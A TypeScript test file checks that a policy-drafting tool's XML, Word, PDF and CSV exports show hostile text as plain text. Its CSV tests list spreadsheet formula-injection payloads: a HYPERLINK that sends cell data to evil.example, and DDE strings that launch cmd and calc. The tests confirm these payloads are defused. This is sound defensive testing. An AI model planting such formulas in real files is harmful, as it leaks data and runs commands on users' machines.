import { CYBER_TAXONOMY } from '../../../shared/pillars';
import mammoth from 'mammoth';
import { describe, expect, it } from 'vitest';
import type { Comment } from '../../../shared/comments';
import type { AffiliationRef, Amendment, Compilation, ReviewCycle } from '../../../shared/review/types';
import { commentsCsv } from '../../comments/commentsCsv';
import { hasControlCharacters, withoutControlCharacters } from '../../exports/safeText';
import { docxXmlErrors, hostile, hostileAsRead, unspaced, words, xmlTextOf } from '../../exports/testing/hostileText';
import { parseCsv } from '../../exports/testing/parseCsv';
import { pdfPages } from '../../exports/testing/pdfText';
import { validateAkn } from '../../testing/validateAkn';
import { renderAmendmentAkn } from './amendmentAkn';
import { renderAmendmentsCsv } from './amendmentsCsv';
import { renderAmendmentsDocx } from './amendmentsDocx';
import { renderCompilationDocx } from './compilationDocx';
import { renderCompilationPdf } from './compilationPdf';
import { A1, A2, CYCLE, COMPILATION, NORLAND, VALDORIA, paragraphBlocks } from './fixtures';

const SPONSOR: AffiliationRef = { ...VALDORIA, name: hostile('sponsor') };
const SUPPORTER: AffiliationRef = { ...NORLAND, name: hostile('supporter') };
const cycle: ReviewCycle = {
  ...CYCLE,
  name: hostile('cycle'),
  baseVersion: { id: 'ver-rev2', label: hostile('base') },
};

/** An amendment whose every free text (wording, justification, names, notes) is hostile. */
function hostileAmendment(base: Amendment): Amendment {
  const changes = (name: string) => [
    { op: 'equal' as const, text: 'States should ' },
    { op: 'delete' as const, text: hostile(`${name}-deleted`) },
    { op: 'insert' as const, text: hostile(`${name}-inserted`) },
    { op: 'equal' as const, text: '.' },
  ];
  const blocks = (name: string) => [{ ...paragraphBlocks('')[0]!, change: 'modified' as const, words: changes(name) }];
  return {
    ...base,
    redline: changes('proposed'),
    blocks: blocks('proposed'),
    revised: base.revised ? { ...base.revised, redline: changes('revised'), blocks: blocks('revised') } : null,
    justification: hostile('justification'),
    sponsor: SPONSOR,
    createdBy: { id: 'u-lena', name: hostile('person') },
    coSponsors: base.coSponsors.map((co) => ({ ...co, affiliation: SUPPORTER })),
    statements: base.statements.map((s) => ({ ...s, affiliation: SUPPORTER, note: hostile(`${s.stance}-note`) })),
    transitions: base.transitions.map((t) => ({
      ...t,
      by: { ...t.by, name: hostile('person') },
      note: hostile('note'),
    })),
  };
}

const amendments = [hostileAmendment(A1), hostileAmendment(A2)];
const compilation: Compilation = {
  cycle,
  clauses: COMPILATION.clauses.map((clause) => ({
    ...clause,
    text: hostile(`clause-${clause.number}`),
    blocks: paragraphBlocks(hostile(`clause-${clause.number}`)),
    amendments: clause.amendments.map(hostileAmendment),
  })),
};

describe('every review export shows hostile text as text', () => {
  it('Akoma Ntoso amendment: valid against the schema, the words in the text and attributes', async () => {
    const xml = renderAmendmentAkn({
      draftTitle: hostile('draft'),
      draftId: 'draft-1',
      cycle,
      amendment: amendments[0]!,
      taxonomy: CYBER_TAXONOMY,
      baseClauseNumber: 'OP1',
    });
    expect(await validateAkn(xml)).toEqual([]);
    // The text of the elements (the justification's paragraphs read on one line), then a name in an attribute.
    const content = words(xmlTextOf(xml.replace(/<[^>]*>/g, ' ')));
    for (const name of ['draft', 'cycle', 'base', 'sponsor', 'supporter', 'justification', 'proposed-inserted'])
      expect(content).toContain(hostileAsRead(name));
    expect(words(xmlTextOf(xml))).toContain(`showAs="${hostileAsRead('person')}"`);
    expect(hasControlCharacters(xml.replace(/[\t\r\n]/g, ''))).toBe(false);
  });

  it('Word list of amendments and compilation: every part parses and the document reads the words', async () => {
    for (const docx of [
      await renderAmendmentsDocx(hostile('draft'), cycle, amendments, CYBER_TAXONOMY),
      await renderCompilationDocx(hostile('draft'), compilation, CYBER_TAXONOMY),
    ]) {
      expect(await docxXmlErrors(docx)).toEqual([]);
      const read = unspaced((await mammoth.extractRawText({ buffer: docx })).value);
      for (const name of ['draft', 'cycle', 'base', 'sponsor', 'proposed-inserted', 'revised-deleted'])
        expect(read).toContain(unspaced(hostileAsRead(name)));
    }
    const list = unspaced(
      (await mammoth.extractRawText({ buffer: await renderAmendmentsDocx('D', cycle, amendments, CYBER_TAXONOMY) }))
        .value,
    );
    for (const name of ['justification', 'support-note', 'objection-note'])
      expect(list).toContain(unspaced(hostileAsRead(name)));
  });

  it('PDF compilation: parses and shows the words', async () => {
    const read = words(
      (await pdfPages(await renderCompilationPdf(hostile('draft'), compilation, CYBER_TAXONOMY))).join(' '),
    );
    for (const name of ['draft', 'clause-OP1', 'proposed-inserted']) expect(read).toContain(hostileAsRead(name));
    expect(hasControlCharacters(read)).toBe(false);
  });
});

/** Cells a spreadsheet would run as a formula, each in a different disguise. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  '\u001f@SUM(A1)',
];

/** Every cell of a CSV file that a spreadsheet would read as a formula (none when the file is defused). */
function formulaCells(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

describe('every CSV export defuses formulas and keeps hostile text whole', () => {
  it('the amendments: every cell reads back as written, none as a formula', () => {
    const formulaAmendments = FORMULAS.map((formula, i) => ({
      ...amendments[0]!,
      id: `am-f${i}`,
      label: formula,
      justification: formula,
      sponsor: { ...SPONSOR, name: formula, code: null },
    }));
    const csv = renderAmendmentsCsv({ ...cycle, name: FORMULAS[0]! }, [...amendments, ...formulaAmendments]);
    expect(formulaCells(csv)).toEqual([]);
    const rows = parseCsv(csv);
    const justification = rows[0]!.indexOf('justification');
    expect(words(rows[1]![justification]!)).toBe(hostileAsRead('justification'));
    expect(rows.slice(3).map((row) => row[justification])).toEqual(
      FORMULAS.map((formula) => `'${withoutControlCharacters(formula)}`),
    );
    expect(hasControlCharacters(csv)).toBe(false);
  });

  it('the comments: every cell reads back as written, none as a formula', () => {
    const comment = (id: string, text: string): Comment => ({
      id,
      draftId: 'draft-1',
      parentId: null,
      author: { id: 'u1', name: text, affiliation: { id: 'a1', kind: 'organisation', name: text, code: null } },
      authorRole: 'observer',
      body: text,
      anchor: { clauseId: 'c1', from: 'x', to: 'y', quote: text },
      anchorState: 'attached',
      clauseNumber: 'OP1',
      currentText: text,
      mentions: [],
      createdAt: '2026-03-01T10:00:00.000Z',
      editedAt: null,
      status: 'open',
      resolvedAt: null,
      resolvedBy: null,
      hidden: null,
    });
    const csv = commentsCsv([comment('c-hostile', hostile('comment')), ...FORMULAS.map((f, i) => comment(`c${i}`, f))]);
    expect(formulaCells(csv)).toEqual([]);
    const [header, first] = parseCsv(csv);
    for (const column of ['author', 'affiliation', 'quote', 'current_text', 'body'])
      expect(words(first![header!.indexOf(column)]!)).toBe(hostileAsRead('comment'));
    expect(hasControlCharacters(csv)).toBe(false);
  });
});
